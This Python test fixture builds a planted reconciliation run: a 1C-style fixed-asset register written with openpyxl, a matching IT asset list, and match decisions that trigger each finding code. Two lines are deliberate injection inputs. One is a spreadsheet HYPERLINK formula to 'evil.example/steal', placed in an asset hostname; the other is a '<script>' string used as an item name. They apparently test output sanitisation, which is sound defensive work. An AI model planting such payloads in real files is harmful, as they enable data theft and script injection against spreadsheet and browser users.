"""A planted run for the checks, annotate and report tests: a 1C-style register workbook built
with openpyxl, the IT assets, and the match decisions, all constructed by hand so these tests
do not depend on layout, inventory or match.

Each book row plants exactly one finding code (see PLANTED); the asset list plants the
MISSING_IN_BOOKS cases and the ones that must not be reported.
"""

from __future__ import annotations

import hashlib
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
from openpyxl.styles import Alignment, Font

from reconciler.models import (
    Asset,
    AssetStatus,
    BookRow,
    Candidate,
    Inventory,
    MatchResult,
    Register,
    RowMatch,
    RowStatus,
    RunResult,
    SheetInfo,
)
from reconciler.rules import Rules

SHEET = "TDSheet"
REPORT_DATE = date(2026, 9, 30)
INJECTION = '=HYPERLINK("http://evil.example/steal","click me")'
SCRIPT_NAME = "<script>alert('x')</script> Ноутбук"
HEADERS = [
    "№ п/п",
    "Наименование",
    "Инвентарный номер",
    "Заводской номер",
    "Первоначальная",
    "Остаточная",
    "Местонахождение",
    "МОЛ",
    "Кол-во",
    "Дата принятия к учету",
    "СПИ, мес",
]
MAX_COLUMN = len(HEADERS)

# Excel row -> the finding code that row plants (None: a clean matched row).
PLANTED: dict[int, str | None] = {
    7: None,
    8: "MISSING_IN_INVENTORY",
    9: "LOCATION_MISMATCH",
    10: "CUSTODIAN_MISMATCH",
    11: "SERIAL_MISMATCH",
    12: "COST_MISMATCH",
    13: "FULLY_DEPRECIATED_IN_SERVICE",
    14: "DISPOSED_STILL_ON_BOOKS",
    15: "BELOW_CAPITALIZATION_THRESHOLD",
    16: "DUPLICATE_ON_BOOKS",
    17: "DUPLICATE_ON_BOOKS",
    18: "KIT_INCOMPLETE",
    19: "NEEDS_REVIEW",
    20: None,  # the injection row: matched, clean; its asset's hostname is a formula text
    21: "MISSING_IN_INVENTORY",  # the <script> name
}
TOTAL_ROW = 22


def _row(
    r: int,
    name: str,
    inv: str,
    serial: str | None,
    cost: int,
    book_value: int,
    location: str = "Москва, ЦОД-1",
    custodian: str = "Иванов И.И.",
    quantity: int = 1,
    acquired: date = date(2024, 1, 15),
    life: int = 60,
) -> BookRow:
    return BookRow(
        sheet=SHEET,
        row=r,
        inventory_number=inv,
        name=name,
        serial=serial,
        quantity=quantity,
        cost=Decimal(cost),
        book_value=Decimal(book_value),
        acquired_on=acquired,
        useful_life_months=life,
        location=location,
        custodian=custodian,
    )


def book_rows() -> list[BookRow]:
    """One row per planted code (PLANTED), values as the 1C workbook shows them."""
    return [
        _row(7, "Сервер Dell PowerEdge R740", "ОС-000101", "CZJ001", 500000, 300000),
        _row(8, "Сервер HP ProLiant DL380", "ОС-000102", "CZJ002", 450000, 200000),
        _row(9, "Коммутатор Cisco 2960", "ОС-000103", "FOC003", 120000, 80000, location="Офис 2"),
        _row(10, "Ноутбук Lenovo T14", "ОС-000104", "PF004", 95000, 60000, custodian="Петров П.П."),
        _row(11, "Сервер Dell R640", "ОС-000105", "CZJ005", 400000, 250000),
        _row(12, "СХД Dell ME4012", "ОС-000106", "CZJ006", 100000, 90000),
        _row(13, "ИБП APC Smart 3000", "ОС-000107", "AS007", 60000, 0, acquired=date(2015, 3, 1)),
        _row(14, "МФУ HP M527", "ОС-000108", "CN008", 70000, 40000),
        _row(15, "Монитор Dell P2419", "ОС-000109", "MN009", 30000, 20000),
        _row(16, "Ноутбук HP 840 G7", "ОС-000777", "HP010", 90000, 70000),
        _row(17, "Ноутбук HP 840 G8", "ОС-777", "HP011", 92000, 75000),
        _row(
            18, "Комплект серверов (3 шт.)", "ОС-000112", "K1, K2, K3", 900000, 600000, quantity=3
        ),
        _row(19, "Сервер НР DL360", "ОС-000113", None, 300000, 200000),
        _row(20, "Рабочая станция HP Z2", "ОС-000114", "Z2014", 150000, 100000),
        _row(21, SCRIPT_NAME, "ОС-000115", None, 80000, 50000),
    ]


def _asset(aid: str, serial: str | None, cost: int | None, **kw: object) -> Asset:
    base: dict[str, object] = {
        "asset_id": aid,
        "serial": serial,
        "purchase_cost": None if cost is None else Decimal(cost),
        "location": "Москва, ЦОД-1",
        "custodian": "Иванов Иван Иванович",
        "status": AssetStatus.IN_SERVICE,
        "status_raw": "В эксплуатации",
        "vendor": "Dell",
        "model": "PowerEdge",
        "hostname": f"host-{aid.lower()}",
    }
    base.update(kw)
    return Asset(**base)  # type: ignore[arg-type]


def assets() -> list[Asset]:
    """The IT side of every planted pair, plus assets no row takes (A-20 ... A-23)."""
    return [
        _asset(
            "A-01",
            "CZJ001",
            500000,
            cpu="2x Xeon Gold 6230",
            ram="256 GB",
            warranty_until=date(2027, 1, 31),
            ip="10.0.0.1",
            rack="R12",
        ),
        _asset("A-03", "FOC003", 120000, location="Склад"),
        _asset("A-04", "PF004", 95000, custodian="Сидоров Сидор Сидорович"),
        _asset("A-05", "CZJ999", 400000),
        _asset("A-06", "CZJ006", 150000),
        _asset("A-07", "AS007", 60000),
        _asset("A-08", "CN008", 70000, status=AssetStatus.DISPOSED, status_raw="Списан"),
        _asset("A-09", "MN009", 30000),
        _asset("A-10", "HP010", 90000),
        _asset("A-11", "HP011", 92000),
        _asset("A-12", "K1", 300000),
        _asset("A-13", "K2", None),
        _asset("A-14", "DL360A", 300000),
        _asset("A-15", "DL360B", 310000),
        _asset("A-16", "Z2014", 150000, hostname=INJECTION),
        _asset("A-20", "NB020", 90000, name="Сервер Supermicro"),
        _asset("A-21", "NB021", None, name="Ноутбук без цены"),
        _asset("A-22", "NB022", 5000, name="Мышь"),
        _asset("A-23", "NB023", 90000, status=AssetStatus.DISPOSED, status_raw="Списан"),
    ]


def match_result(rows: list[BookRow]) -> MatchResult:
    """Row 8 and 21 unmatched, row 19 in review (A-14, A-15), row 18 a kit of 3 with 2 found."""
    pairs = {
        7: ["A-01"],
        9: ["A-03"],
        10: ["A-04"],
        11: ["A-05"],
        12: ["A-06"],
        13: ["A-07"],
        14: ["A-08"],
        15: ["A-09"],
        16: ["A-10"],
        17: ["A-11"],
        18: ["A-12", "A-13"],
        20: ["A-16"],
    }
    out = []
    for row in rows:
        if row.row in pairs:
            out.append(RowMatch(row, RowStatus.MATCHED, pairs[row.row], 100.0, "serial"))
        elif row.row == 19:
            cands = [Candidate("A-14", 82.0), Candidate("A-15", 79.5)]
            out.append(RowMatch(row, RowStatus.REVIEW, [], 82.0, "fuzzy", candidates=cands))
        else:
            out.append(RowMatch(row, RowStatus.UNMATCHED))
    return MatchResult(rows=out, unmatched_asset_ids=["A-20", "A-21", "A-22", "A-23"])


def write_1c_register(path: Path, rows: list[BookRow]) -> Path:
    """A 1C print layout: title rows, a two-row merged header, a 1-2-3 numbering row, number and
    date formats, set column widths, data rows 7-21 and an "Итого" total row 22."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = SHEET
    ws["A1"] = "Инвентарная книга учета объектов основных средств на 30.09.2026"
    ws["A1"].font = Font(bold=True, size=14)
    ws.merge_cells("A1:K1")
    ws["A2"] = "Организация: ООО «Ромашка»"
    ws.merge_cells("A2:F2")
    for c, head in enumerate(HEADERS, start=1):
        if head in ("Первоначальная", "Остаточная"):
            ws.cell(row=5, column=c, value=head)
        else:
            ws.cell(row=4, column=c, value=head)
            ws.merge_cells(start_row=4, start_column=c, end_row=5, end_column=c)
        ws.cell(row=4, column=c).alignment = Alignment(wrap_text=True)
        ws.cell(row=6, column=c, value=c)
    ws.cell(row=4, column=5, value="Стоимость, руб.")
    ws.merge_cells("E4:F4")
    for r in rows:
        values = [
            r.row - 6,
            r.name,
            r.inventory_number,
            r.serial,
            r.cost,
            r.book_value,
            r.location,
            r.custodian,
            r.quantity,
            r.acquired_on,
            r.useful_life_months,
        ]
        for c, v in enumerate(values, start=1):
            cell = ws.cell(row=r.row, column=c, value=float(v) if isinstance(v, Decimal) else v)
            if c in (5, 6):
                cell.number_format = "#,##0.00"
            if c == 10:
                cell.number_format = "DD.MM.YYYY"
    ws.cell(row=TOTAL_ROW, column=2, value="Итого")
    ws.cell(row=TOTAL_ROW, column=5, value="=SUM(E7:E21)").number_format = "#,##0.00"
    for letter, width in zip(
        "ABCDEFGHIJK", (6, 40, 16, 18, 16, 16, 22, 18, 8, 14, 10), strict=True
    ):
        ws.column_dimensions[letter].width = width
    wb.save(path)
    return path


def sheet_info(max_row: int = TOTAL_ROW) -> SheetInfo:
    return SheetInfo(
        name=SHEET,
        header_row=4,
        header_end_row=6,
        columns={"name": 2, "inventory_number": 3, "serial": 4, "cost": 5, "book_value": 6},
        headers={c: h for c, h in enumerate(HEADERS, start=1)},
        max_column=MAX_COLUMN,
        max_row=max_row,
    )


def register_for(
    path: Path, rows: list[BookRow], fmt: str = "xlsx", file_name: str | None = None
) -> Register:
    return Register(
        path=path,
        file_name=file_name or path.name,
        sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
        format=fmt,
        sheets=[sheet_info()],
        rows=rows,
        report_date=REPORT_DATE,
    )


def planted_run(
    tmp_path: Path,
    rules: Rules,
    *,
    fmt: str = "xlsx",
    path: Path | None = None,
    language: str = "ru",
) -> RunResult:
    """The whole planted run: register file, assets, match and the real checks' findings."""
    from reconciler.checks.accounting import run_checks

    rows = book_rows()
    if path is None:
        path = write_1c_register(tmp_path / "Книга ОС.xlsx", rows)
    register = register_for(path, rows, fmt)
    inventory = Inventory(source="inventory.xlsx", assets=assets())
    matched = match_result(rows)
    findings = run_checks(
        register,
        inventory,
        matched,
        rules,
        report_date=REPORT_DATE,
        language=language,
    )
    run_dir = tmp_path / "run"
    run_dir.mkdir(exist_ok=True)
    return RunResult(
        run_id="20260930-120000-abc123",
        run_dir=run_dir,
        register=register,
        inventory=inventory,
        match=matched,
        findings=findings,
        report_date=REPORT_DATE,
    )


def planted_csv_run(tmp_path: Path, rules: Rules) -> RunResult:
    """The planted run on a cp1251 csv export of the register (its name, number and
    inventory-number columns): the annotated copy is an .xlsx made from it."""
    from dataclasses import replace

    from reconciler.read.sheets import open_workbook

    path = tmp_path / "Книга.csv"
    lines = ["", "", "", "№;Наименование;Инв. №"] + ["" for _ in range(2)]
    lines += [f"{r.row - 6};{r.name};{r.inventory_number}" for r in book_rows()]
    path.write_bytes("\r\n".join(lines).encode("cp1251", "replace"))
    result = planted_run(tmp_path, rules, fmt="csv", path=path)
    name = open_workbook(path).sheet_names[0]
    result.register.sheets = [replace(result.register.sheets[0], name=name, max_column=3)]
    for m in result.match.rows:
        m.row.sheet = name
    return result
